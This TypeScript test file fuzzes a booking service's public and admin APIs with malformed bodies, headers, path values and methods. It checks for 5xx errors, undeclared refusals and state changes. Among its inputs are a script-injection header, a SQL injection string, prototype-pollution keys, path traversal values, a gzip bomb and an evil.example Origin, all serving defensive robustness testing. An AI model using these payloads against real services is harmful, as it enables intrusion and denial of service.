      ['[]', utf8('[]')],
      ['{}', utf8('{}')],
      ['[{}]', utf8('[{}]')],
      ['wrapped in an array', utf8(`[${text}]`)],
      ['100,000 nulls', utf8(`[${new Array(100_000).fill('null').join(',')}]`)],
      ['objects nested 10,000 deep', utf8(deepObject(10_000))],
      ['arrays nested 10,000 deep', utf8(deepArray(10_000))],
      ['too large (300 KB)', utf8(`{"pad":"${'x'.repeat(300_000)}"}`)],
    ]
    // An operation that takes no body reads none (only parses it): a few kinds of bad body are enough there.
    const kept = op.body ? bodies : bodies.filter(([label]) => BODYLESS_KEPT.has(label))
    for (const [label, body] of kept) add(op, `body: ${label}`, request(base, { body }))
    for (const type of op.body ? CONTENT_TYPES : CONTENT_TYPES.slice(0, 1))
      add(op, `content-type ${show(type)}`, request(base, { body: bytes, headers: { 'content-type': type } }))
    add(op, 'a body without a content type', request(base, { body: bytes, headers: { 'content-type': undefined } }))
    if (op.body) {
      // Neither host decompresses request bodies (server/plugins/compression.ts): no zip bomb to defuse.
      add(op, 'a gzipped body', request(base, { body: gzipSync(bytes), headers: { 'content-encoding': 'gzip' } }))
      add(
        op,
        'a gzip bomb (10 MB of zeros)',
        request(base, { body: GZIP_BOMB, headers: { 'content-encoding': 'gzip' } }),
      )
      add(op, 'content-encoding br, body plain', request(base, { body: bytes, headers: { 'content-encoding': 'br' } }))
    }

    // One path parameter at a time.
    for (const name of Object.keys(base.params)) {
      const others = [
        t.trip.trip_id,
        t.sibling.trip_id,
        t.foreign.trip_id,
        t.trip.search_id,
        t.sibling.search_id,
        t.foreign.search_id,
        t.items.ticket,
        t.items.seat,
        t.items.bag,
        t.foreign.ticket_item_id,
        t.subscriptionId,
        t.trip.tickets[0]!.ticket_id,
        t.products.bag,
      ].filter((id) => id !== base.params[name])
      const real = base.params[name]!
      const values = [
        ...PATH_EXTRAS,
        ...others,
        real.toUpperCase(),
        `${real} `,
        `${real}\u0000`,
        `${real}/`,
        `${real}%`,
        `${real}/../${real}`,
      ]
      for (const value of values) {
        let path: string
        try {
          path = pathOf(op, { ...base.params, [name]: value })
        } catch {
          continue // encodeURIComponent refuses lone surrogates; there are none above, but a new value might have one
        }
        add(op, `:${name} = ${show(value)}`, request(base, { path }))
      }
      for (const seg of RAW_SEGMENTS)
        add(
          op,
          `:${name} raw ${show(seg)}`,
          request(base, { path: pathOf(op, { ...base.params, [name]: seg }, new Set([name])) }),
        )
    }

    // The query string.
    for (const q of QUERIES) add(op, `query ${show(q)}`, request(base, { query: q }))
    if (op.query) {
      // Each parameter the operation declares, alone, with what each kind of parameter is given wrong.
      for (const name of Object.keys((op.query as { properties?: object }).properties ?? {})) {
        for (const v of name === 'product_types' ? PRODUCT_TYPES : QUERY_VALUES)
          add(op, `${name}=${show(v)}`, request(base, { query: `?${name}=${v}` }))
      }
    }

    // Credentials.
    for (const [label, value] of credentials(t, otherApiKey))
      add(op, `auth: ${label}`, request(base, { headers: { authorization: value } }))

    // The other headers.
    const headers: Array<[string, string]> = [
      // An id too short, too long, with markup, acceptable (echoed), with a NUL (fetch will not send it).
      ...['short', 'x'.repeat(200), '<script>alert(1)</script>', 'req-fuzz-0001', 'a\u0000b'].map(
        (v): [string, string] => ['x-request-id', v],
      ),
      // Refusals compressed too (problemViolations reads them decompressed).
      ...['br', 'gzip', 'x'.repeat(1_000)].map((v): [string, string] => ['accept-encoding', v]),
      ['accept', 'application/xml'],
      ...['https://evil.example', SHOP_ORIGIN, 'http://[::1'].map((v): [string, string] => ['origin', v]),
    ]
    if (op.method === 'GET') {
      for (const v of [
        '*',
        'W/"x"',
        '"'.repeat(1_000),
        'x'.repeat(10_000),
        t.basketEtag,
        t.searchEtag,
        `${t.basketEtag}, *`,
      ])
        headers.push(['if-none-match', v])
    }
    if (op.idempotent) {
      for (const v of [
        '',
        ' ',
        'é',
        'k'.repeat(255),
        'k'.repeat(256),
        'a b',
        '\t',
        '__proto__',
        'constructor',
        "' OR 1=1 --",
        'fuzz-key-1',
      ])
        headers.push(['idempotency-key', v])
    }
    for (const [name, value] of headers)
      add(op, `header ${name}: ${show(value)}`, request(base, { headers: { [name]: value } }))
    // A browser's call: the access token with an Origin, allowed or not, well-formed or not (the API key is refused with any).
    if (op.auth !== 'public') {
      for (const origin of [
        'https://evil.example',
        SHOP_ORIGIN,
        'HTTPS://SHOP.EXAMPLE:443',
        'http://[::1',
        'x'.repeat(5_000),
      ]) {
        add(
          op,
          `access token from origin ${show(origin)}`,
          request(base, { headers: { authorization: bearerAuth(t.trip.access_token), origin } }),
        )
      }
    }

    // Other methods on the same path, once per path.
    const path = pathOf(op, base.params)
    if (!seenPaths.has(op.path)) {
      seenPaths.add(op.path)
      const own = new Set(
        operations
          .filter((o) => o.path === op.path)
          .flatMap((o) => (o.method === 'GET' ? ['GET', 'HEAD'] : [o.method])),
      )
      for (const method of METHODS.filter((m) => !own.has(m)))
        add(op, `method ${method}`, request(base, { method, path }))
      for (const origin of ['https://evil.example', SHOP_ORIGIN]) {
        add(
          op,
          `preflight from ${origin}`,
          request(base, {
            method: 'OPTIONS',
            path,
            body: null,
            headers: {
              origin,
              'access-control-request-method': op.method,
              'access-control-request-headers': 'authorization, content-type',
            },
          }),
        )
      }
    }
  }
  return cases
}

// ---------------------------------------------------------------- what the OpenAPI document declares

/**
 * The operation a request reaches: the one operation its method and path route to, both as sent and with
 * its dot segments resolved (fetch resolves them, `app.inject` does not), else none.
 */
function operationOf(req: Req): Operation | undefined {
  let resolved: string
  try {
    resolved = new URL(req.url, 'http://fuzz.test').pathname
  } catch {
    return undefined
  }
  const routed = (path: string) =>
    routes.filter((r) => r.op.method === req.method && r.pattern.test(path)).map((r) => r.op)
  const [sent, normal] = [routed(req.url.split('?')[0]!), routed(resolved)]
  return sent.length === 1 && normal.length === 1 && sent[0] === normal[0] ? sent[0] : undefined
}

/** Per operation id, every `<status> <code>` its error responses declare in the served OpenAPI document. */
async function declaredProblems(): Promise<Map<string, Set<string>>> {
  const t = await build()
  try {
    const doc = JSON.parse((await t.app.inject({ method: 'GET', url: '/v2.2/openapi.json' })).body)
    const declared = new Map<string, Set<string>>()
    for (const item of Object.values<Record<string, any>>(doc.paths)) {
      for (const entry of Object.values<any>(item)) {
        const set = new Set<string>()
        for (const [status, response] of Object.entries<any>(entry.responses)) {
          for (const example of Object.values<any>(response.content?.['application/problem+json']?.examples ?? {})) {
            // Each example refers to the problem of its code under components.examples.
            const problem = doc.components.examples[String(example.$ref).replace('#/components/examples/', '')]?.value
            set.add(`${status} ${problem?.code}`)
          }
        }
        declared.set(entry.operationId, set)
      }
    }
    return declared
  } finally {
    await t.close()
  }
}

// ---------------------------------------------------------------- hosts and the run

const msw = setupServer()
before(() => msw.listen({ onUnhandledRequest: 'error' }))
after(() => msw.close())
const { serverHost, sandboxHost } = hostsUnderTest(msw, SANDBOX_ORIGIN)

interface Failure {
  what: string
  method: string
  url: string
  status: number | string
  why: string
  body: string
}

const excerpt = (res: Res) => {
  try {
    return bodyText(res).slice(0, 300)
  } catch {
    return `<${res.raw.length} bytes>`
  }
}

async function fuzz(host: HostUnderTest) {
  const target = await makeTarget(host.send, host.apiKey, host.otherApiKey, host.now, host.drain)
  return run(host, casesFor(target, host.otherApiKey, host.now), `${operations.length} operations`)
}

/** Sends every case in turn, checking each answer (no 5xx, a refusal a proper problem that changed nothing). */
async function run(host: Pick<HostUnderTest, 'name' | 'send' | 'store'>, cases: Case[], over: string) {
  const writes = watchWrites(host.store)
  // The store every case meets: after each case that wrote, the store is put back to it.
  const baseline: MemorySnapshot = host.store.snapshot()
  const counts = {
    cases: cases.length,
    tried: 0,
    succeeded: 0,
    '5xx': 0,
    violations: 0,
    changes: 0,
    skipped: 0,
    threw: 0,
  }
  const failures: Failure[] = []
  /** Per operation id, each `<status> <code>` it refused with, and the first case that provoked it. */
  const refusals = new Map<string, Map<string, string>>()
  const started = performance.now()

  for (const { what, req, valid } of cases) {
    const fail = (status: number | string, why: string, body = '') =>
      failures.push({
        what,
        method: req.method,
        url: req.url.length > 160 ? `${req.url.slice(0, 160)}…(${req.url.length})` : req.url,
        status,
        why,
        body,
      })
    const before = writes.count
    let res: Res | null = null
    try {
      res = await host.send(req)
      if (res === null) counts.skipped++
    } catch (e) {
      // The host failed to answer at all (the sandbox's fetch rejects): as bad as a 5xx.
      counts.threw++
      fail('threw', String((e as Error)?.stack ?? e).slice(0, 300))
    }
    if (valid && res !== null && res.status >= 400 && res.status !== REFUSED_WHEN_VALID[what.split(':')[0]!]) {
      // Then every case of the operation would only be refused for what the valid request already got wrong.
      fail(res.status, 'the valid request of the operation was refused', excerpt(res))
    }
    if (res !== null) {
      counts.tried++
      if (res.status < 400) counts.succeeded++
      if (res.status >= 500) {
        counts['5xx']++
        fail(res.status, '5xx', excerpt(res))
      }
      if (res.status >= 400) {
        const v = problemViolations(res, req.method)
        if (v.length > 0) {
          counts.violations++
          fail(res.status, `not a proper problem: ${v.join('; ')}`, excerpt(res))
        }
        const op = operationOf(req)
        if (op && v.length === 0) {
          const seen = refusals.get(op.id) ?? new Map<string, string>()
          refusals.set(op.id, seen)
          const answer = `${res.status} ${json(res).code}`
          if (!seen.has(answer)) seen.set(answer, what)
        }
      }
    }
    if (writes.count === before) continue
    if (res !== null && res.status < 400) {
      // A case that succeeded: put the target back for the next one. The core's own memory of what it
      // wrote stays right: it reads a trip's version before every write, and keeps in memory the seat maps it
      // stored (and reads them from there first).
      host.store.restore(baseline)
      continue
    }
    // A refusal that called a writing method: everything must be as it was (a key reserved, then released).
    try {
      assert.deepStrictEqual(host.store.snapshot(), baseline)
    } catch (e) {
      counts.changes++
      fail(
        res?.status ?? 'none',
        `a refused request changed the store: ${String((e as Error).message).slice(0, 600)}`,
        res ? excerpt(res) : '',
      )
      host.store.restore(baseline)
    }
  }

  // A query string or body that reached a prototype would show here, in this very process.
  const probe = {} as Record<string, unknown>
  if (probe.polluted !== undefined)
    failures.push({
      what: 'after the run',
      method: '-',
      url: '-',
      status: '-',
      why: 'Object.prototype was polluted',
      body: String(probe.polluted),
    })

  const seconds = ((performance.now() - started) / 1000).toFixed(1)
  console.log(
    `[fuzz] ${host.name}: ${counts.tried} requests tried, ${counts['5xx']} 5xx, ${counts.violations} problem violations, ` +
      `${counts.changes} state changes, ${counts.skipped} skipped (${counts.cases} cases over ${over}, ` +
      `${counts.succeeded} answered < 400, ${counts.threw} threw, ${seconds} s)`,
  )
  return { counts, failures, refusals }
}

test('counting test ids never repeat a secret (secret 69, `s1x`, padded with x, was secret 1 again)', () => {
  const ids = testIds('counting')
  const secrets = Array.from({ length: 5_000 }, () => ids.secret(32))
  assert.equal(new Set(secrets).size, secrets.length)
})

let declared: Promise<Map<string, Set<string>>> | undefined

/** The failures of a run, the first 20 shown. */
function assertNoFailures(failures: Failure[], where: string) {
  const shown = failures
    .slice(0, 20)
    .map(
      (f, i) =>
        `${i + 1}. [${f.what}] ${f.method} ${f.url} → ${f.status}: ${f.why}${f.body ? `\n     ${f.body.replace(/\s+/g, ' ')}` : ''}`,
    )
  assert.equal(
    failures.length,
    0,
    `${failures.length} failures on ${where}, the first ${shown.length}:\n${shown.join('\n')}`,
  )
}

for (const make of [serverHost, sandboxHost]) {
  test(`fuzz: every operation on the ${make === serverHost ? 'Fastify server' : 'MSW sandbox'}: no 5xx, refusals are problems the OpenAPI document declares and change nothing`, async () => {
    const host = await make()
    try {
      const { counts, failures, refusals } = await fuzz(host)
      assert.ok(counts.tried > 3_000, `only ${counts.tried} requests were tried`)
      assertNoFailures(failures, `the ${host.name}`)

      // The refusals were told apart by operation (every operation that takes credentials refused a case without them).
      for (const op of operations.filter((o) => o.auth !== 'public'))
        assert.ok(refusals.get(op.id)?.has('401 unauthorized'), `${op.id}: no refusal was counted for it`)
      const documented = await (declared ??= declaredProblems())
      const undeclared = [...refusals].flatMap(([id, seen]) =>
        [...seen]
          .filter(([answer]) => !documented.get(id)?.has(answer))
          .map(([answer, what]) => `${id} answered ${answer}, first to [${what}]`),
      )
      assert.deepEqual(
        undeclared,
        [],
        `refusals the OpenAPI document does not declare for their operation (core/api/operations.ts \`errors\`, core/api/dispatch.ts problemCodes):\n${undeclared.join('\n')}`,
      )
    } finally {
      await host.close()
    }
  })
}

// ---------------------------------------------------------------- the admin API

/**
 * Every operation of the admin API (as its OpenAPI document, /admin/v1/openapi.json, serves them), with a
 * valid operator key: each aimed at real objects (a seller, its booked trip, a webhook delivery, a dead job),
 * then changed one thing at a time, as the public operations are: a field of its body, the body as a whole and
 * its content type, one path parameter, the query string and each declared query parameter, the method.
 */
function adminCasesFor(doc: any, ids: Record<string, string>, others: string[], key: string): Case[] {
  drawn = 0
  taken = 0
  const cases: Case[] = []
  for (const [template, item] of Object.entries<Record<string, any>>(doc.paths)) {
    for (const [method, op] of Object.entries<any>(item)) {
      const add = (what: string, req: Req, valid?: boolean) =>
        cases.push({ what: `admin ${op.operationId}: ${what}`, req, ...(valid ? { valid } : {}) })
      const schema = op.requestBody?.content?.['application/json']?.schema as Record<string, any> | undefined
      const at = (params: Record<string, string>, raw = false) =>
        template.replace(/\{(\w+)\}/g, (_, n: string) => (raw ? params[n]! : encodeURIComponent(params[n]!)))
      const params = Object.fromEntries(
        [...template.matchAll(/\{(\w+)\}/g)].map(([, n]) => {
          assert.ok(ids[n!], `${op.operationId}: no object for {${n}}`)
          return [n!, ids[n!]!]
        }),
      )
      const valid: Json = schema ? {} : undefined
      const req = (
        change: {
          method?: string
          path?: string
          query?: string
          body?: Uint8Array | null
          headers?: Record<string, string | undefined>
        } = {},
      ) => {
        const headers: Record<string, string> = { authorization: bearerAuth(key) }
        const body =
          change.body !== undefined
            ? (change.body ?? undefined)
            : valid === undefined
              ? undefined
              : utf8(JSON.stringify(valid))
        if (body !== undefined) headers['content-type'] = 'application/json'
        for (const [k, v] of Object.entries(change.headers ?? {}))
          if (v === undefined) delete headers[k]
          else headers[k] = v
        return {
          method: change.method ?? method.toUpperCase(),
          url: `${change.path ?? at(params)}${change.query ?? ''}`,
          headers,
          ...(body !== undefined ? { body } : {}),
        }
      }
      add('the valid request', req(), true)

      if (schema)
        for (const field of fieldsOf(schema, valid))
          for (const edit of editsFor(field))
            add(`body /${field.path.join('/')} ← ${edit.label}`, req({ body: edited(valid, field.path, edit) }))
      const bytes = utf8('{}')
      const bodies: Array<[string, Uint8Array | null]> = [
        ['empty body', new Uint8Array(0)],
        ['whitespace', utf8(' \n\t ')],
        ['BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes])],
        ['UTF-16LE with BOM', Buffer.from('\ufeff{}', 'utf16le')],
        ['truncated to 1 byte', bytes.slice(0, 1)],
        ['trailing garbage', utf8('{}x')],
        ['bad UTF-8 up front', Buffer.concat([Buffer.from([0xff, 0xfe, 0xfd]), bytes])],
        ['null', utf8('null')],
        ['a string', utf8('"str"')],
        ['[]', utf8('[]')],
        ['objects nested 10,000 deep', utf8(deepObject(10_000))],
        ['too large (300 KB)', utf8(`{"pad":"${'x'.repeat(300_000)}"}`)],
      ]
      for (const [label, body] of bodies) add(`body: ${label}`, req({ body }))
      for (const type of CONTENT_TYPES)
        add(`content-type ${show(type)}`, req({ body: bytes, headers: { 'content-type': type } }))

      for (const name of Object.keys(params)) {
        const real = params[name]!
        const values = [
          ...PATH_EXTRAS,
          ...others.filter((id) => id !== real),
          real.toUpperCase(),
          `${real} `,
          `${real}\u0000`,
          `${real}/`,
          `${real}%`,
        ]
        for (const value of values) add(`{${name}} = ${show(value)}`, req({ path: at({ ...params, [name]: value }) }))
        for (const seg of RAW_SEGMENTS)
          add(`{${name}} raw ${show(seg)}`, req({ path: at({ ...params, [name]: seg }, true) }))
      }

      for (const q of QUERIES) add(`query ${show(q)}`, req({ query: q }))
      for (const p of (op.parameters as Array<{ name: string; in: string }>).filter((x) => x.in === 'query'))
        for (const v of QUERY_VALUES) add(`${p.name}=${show(v)}`, req({ query: `?${p.name}=${v}` }))

      for (const other of METHODS.filter((m) => m !== method.toUpperCase() && !(m === 'HEAD' && method === 'get')))
        add(`method ${other}`, req({ method: other }))
    }
  }
  return cases
}

test('fuzz: every admin operation with a valid operator key: no 5xx, refusals are problems and change nothing', async () => {
  const t = await build({ ids: 'counting' })
  try {
    const other = await t.otherSeller()
    const send = injectSend(t.app)
    const target = await makeTarget(send, t.apiKey, other.apiKey, t.clock.now(), () => t.core.drainJobs())
    const key = (await t.core.createOperatorKey({ name: 'fuzz' })).key
    const get = async (url: string, method = 'GET') => {
      const res = await send({ method, url, headers: { authorization: bearerAuth(key) } })
      assert.ok(res && res.status === 200, `${method} ${url}: ${res && bodyText(res)}`)
      return json(res)
    }
    const delivery = (await get(`/admin/v1/sellers/${t.seller.seller_id}/webhooks/test`, 'POST')).deliveries[0]
    await t.store.enqueueJob({
      job_id: 'fuzz-dead',
      kind: 'fuzz_probe',
      payload: {},
      run_at: t.clock.now().toISOString(),
      attempts: 1,
      max_attempts: 1,
      locked_until: null,
      last_error: 'HTTP 503',
      status: 'dead',
      created_at: t.clock.now().toISOString(),
    })
    const ids = {
      seller_id: t.seller.seller_id,
      trip_id: target.booked.trip_id,
      delivery_id: delivery.delivery_id as string,
      job_id: 'fuzz-dead',
    }
    // Objects of other kinds, and of the other seller, in every slot.
    const others = [...Object.values(ids), other.seller.seller_id, target.foreign.trip_id, target.subscriptionId]
    const doc = await get('/admin/v1/openapi.json')
    const operationsServed = Object.values<Record<string, unknown>>(doc.paths).flatMap((i) => Object.keys(i)).length
    const cases = adminCasesFor(doc, ids, others, key)
    const { counts, failures } = await run(
      { name: 'server', send, store: t.store as MemoryStore },
      cases,
      `${operationsServed} admin operations`,
    )
    assert.ok(operationsServed >= 20, `only ${operationsServed} admin operations in the document`)
    assert.ok(counts.tried > 2_000, `only ${counts.tried} requests were tried`)
    assertNoFailures(failures, 'the admin API')
  } finally {
    await t.close()
  }
})
